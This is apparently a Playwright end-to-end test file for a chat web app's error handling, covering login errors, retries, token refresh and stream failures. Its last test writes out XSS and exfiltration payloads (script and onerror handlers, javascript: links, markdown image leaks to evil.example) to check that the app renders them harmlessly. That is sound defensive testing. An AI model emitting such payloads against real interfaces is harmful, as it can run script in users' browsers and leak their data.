// What people see when something goes wrong: one plain sentence and what to do next; and they lose nothing that they wrote.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { ask, asking, baseUrl, becomes, composer, conversationText, launch, logIn, newSession, newVisitor, register, replies, replyEnded, send, shot } from './browser.mjs';

let browser;
let visitor;

before(async () => {
  browser = await launch();
  visitor = await newVisitor(browser);
  await register(visitor);
});
after(() => browser.close());

const alertText = async (page) => (await page.getByRole('alert').first().innerText()).trim();

function problem(status, code, detail) {
  return {
    status,
    contentType: 'application/problem+json',
    body: JSON.stringify({ type: 'about:blank', status, title: code, detail, code, requestId: 'test' }),
  };
}

/** Answers the next request to `url` in this way, and only that one. */
async function once(page, url, method, answer) {
  let answered = false;
  await page.route(url, async (route) => {
    if (answered || route.request().method() !== method) return route.fallback();
    answered = true;
    return answer(route);
  });
}

const chatUrl = '**/api/ai/chat';

test('a wrong password is told in a sentence', async () => {
  const { page, context } = await newVisitor(browser);
  await page.goto(baseUrl);
  await logIn({ page, username: visitor.username }, 'not the password');
  assert.match(await alertText(page), /^[A-Z].*(username|password).*\.$/);
  await shot(page, 'wrong-password');
  await context.close();
});

test('a taken username is told in a sentence', async () => {
  const { page, context } = await newVisitor(browser);
  await page.goto(baseUrl);
  await page.getByRole('button', { name: 'Create an account' }).click();
  await page.getByLabel('Username').fill(visitor.username);
  await page.getByLabel('Password').fill('another password');
  await page.getByRole('button', { name: 'Create account' }).click();
  assert.match(await alertText(page), /^[A-Z].*\.$/);
  await context.close();
});

test('a refused send is told, and "try again" sends the same message', async () => {
  const { page } = visitor;
  const sent = [];
  page.on('request', (request) => request.url().endsWith('api/ai/chat') && sent.push(request.postDataJSON()));
  await once(page, chatUrl, 'POST', (route) => route.fulfill(problem(503, 'no_model', 'No model is available at the moment.')));
  await send(page, 'Is anybody there?');
  assert.match(await alertText(page), /^No model is available at the moment\./);
  await shot(page, 'refused');
  await asking(page, () => page.getByRole('button', { name: 'Try again' }).click());
  await replyEnded(page);
  await becomes(() => page.getByRole('alert').count(), 0);
  await becomes(() => page.getByRole('article', { name: 'You' }).count(), 1);
  assert.equal(sent.length, 2);
  assert.equal(sent[0].messages[0].id, sent[1].messages[0].id);
});

test('a server that is out of reach is told, and "try again" goes on', async () => {
  const { page } = visitor;
  await once(page, chatUrl, 'POST', (route) => route.abort('connectionrefused'));
  await send(page, 'Can you hear me?');
  assert.match(await alertText(page), /^Can’t reach the server\./);
  await asking(page, () => page.getByRole('button', { name: 'Try again' }).click());
  await replyEnded(page);
  await becomes(() => replies(page).count(), 2);
});

test('a body that ends without "finish" is a lost connection: the reply is taken up again', async () => {
  const { page } = visitor;
  await newSession(page);
  let whole;
  await once(page, chatUrl, 'POST', async (route) => {
    const response = await route.fetch();
    whole = await response.text();
    const events = whole.split('\n\n');
    const cut = events.findIndex((event) => event.includes('"text-delta"')) + 3;
    await route.fulfill({ response, body: `${events.slice(0, cut).join('\n\n')}\n\n` });
  });
  await send(page, 'Tell me something I must not miss');
  await replyEnded(page);
  const shown = await conversationText(page);
  await page.reload();
  await replyEnded(page);
  await becomes(() => conversationText(page), shown);
  assert.match(whole, /"type":"finish"/);
});

test('an expired access token is replaced silently', async () => {
  const { page } = visitor;
  let refreshes = 0;
  page.on('request', (request) => request.url().endsWith('/api/auth/refresh') && refreshes++);
  await once(page, chatUrl, 'POST', (route) => route.fulfill(problem(401, 'unauthenticated', 'Log in first.')));
  await ask(page, 'Still here?');
  assert.equal(refreshes, 1);
  await becomes(() => page.getByRole('alert').count(), 0);
});

test('after an expired login the page asks for a new one and then sends the message', async () => {
  const { page, context } = visitor;
  const before = await replies(page).count();
  await context.clearCookies();
  await once(page, chatUrl, 'POST', (route) => route.fulfill(problem(401, 'unauthenticated', 'Log in first.')));
  await send(page, 'Words worth keeping');
  assert.match(await alertText(page), /^You’ve been logged out\./);
  await logIn(visitor);
  await page.getByRole('article', { name: 'You' }).last().getByText('Words worth keeping').waitFor();
  await replies(page).nth(before).waitFor();
  await replyEnded(page);
  await becomes(() => composer(page).inputValue(), '');
  await becomes(() => page.getByRole('alert').count(), 0);
});

test('a message that is refused because a reply runs elsewhere waits for its turn', async () => {
  const { page } = visitor;
  const sent = [];
  page.on('request', (request) => request.url().endsWith('api/ai/chat') && sent.push(request.postDataJSON().messages.at(-1).id));
  await once(page, chatUrl, 'POST', (route) => route.fulfill(problem(409, 'reply_running', 'Another reply is still running in this chat.')));
  await send(page, 'One moment, please');
  await page.getByRole('alert').getByText('Another reply is still running in this chat.').waitFor();
  await shot(page, 'conflict');
  await page.getByRole('article', { name: 'Reply' }).last().waitFor();
  await page.getByRole('alert').waitFor({ state: 'detached' });
  await replyEnded(page);
  assert.equal(new Set(sent).size, 1);
});

test('an error inside the stream is told below what was shown', async () => {
  const { page } = visitor;
  await newSession(page);
  const chunks = [
    { type: 'start', messageId: '1' }, { type: 'start-step' }, { type: 'text-start', id: 't' },
    { type: 'text-delta', id: 't', delta: 'The first half' }, { type: 'text-end', id: 't' }, { type: 'finish-step' },
    { type: 'message-metadata', messageMetadata: { status: 'error' } },
    { type: 'error', errorText: 'The model stopped answering.' },
  ];
  await once(page, chatUrl, 'POST', (route) => route.fulfill(eventStream(chunks)));
  await send(page, 'Half a reply, please');
  assert.match(await alertText(page), /^The model stopped answering\./);
  await becomes(() => page.getByRole('alert').count(), 1);
  assert.match(await replies(page).last().innerText(), /The first half/);
  await shot(page, 'stream-error');
});

test('a hostile reply runs nothing and fetches nothing', async () => {
  const { page } = visitor;
  await newSession(page);
  const hostile = [
    '<img src="x" onerror="window.ran = 1"> <script>window.ran = 2</script> <svg onload="window.ran = 3"></svg>',
    '<iframe src="https://evil.example/frame"></iframe> <style>@import "https://evil.example/style.css"</style>',
    '[run](javascript:window.ran=4) [data](data:text/html,<script>window.ran=5</script>) [file](../../etc)',
    '![leak](https://evil.example/leak.png?secret) <a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
    '<div style="background: url(https://evil.example/bg.png)">styled</div> <link rel="stylesheet" href="https://evil.example/l.css">',
    '[good](https://example.org/)',
  ].join('\n\n');
  const chunks = [
    { type: 'start', messageId: '2' }, { type: 'text-start', id: 't' }, { type: 'text-delta', id: 't', delta: hostile },
    { type: 'text-end', id: 't' }, { type: 'finish', finishReason: 'stop' },
  ];
  await once(page, chatUrl, 'POST', (route) => route.fulfill(eventStream(chunks)));
  await send(page, 'Be evil');
  await replyEnded(page);
  const good = page.getByRole('link', { name: 'good' });
  await good.waitFor();
  assert.match(await good.getAttribute('rel'), /noopener noreferrer/);
  assert.equal(await page.evaluate(() => window.ran), undefined);
  for (const link of await replies(page).getByRole('link').all()) {
    assert.match(await link.getAttribute('href'), /^https:/);
  }
  assert.deepEqual(visitor.complaints, []);
  await shot(page, 'hostile');
});

function eventStream(chunks) {
  const events = [...chunks.map((chunk) => JSON.stringify(chunk)), '[DONE]'];
  return { contentType: 'text/event-stream', body: events.map((event) => `data: ${event}\n\n`).join('') };
}
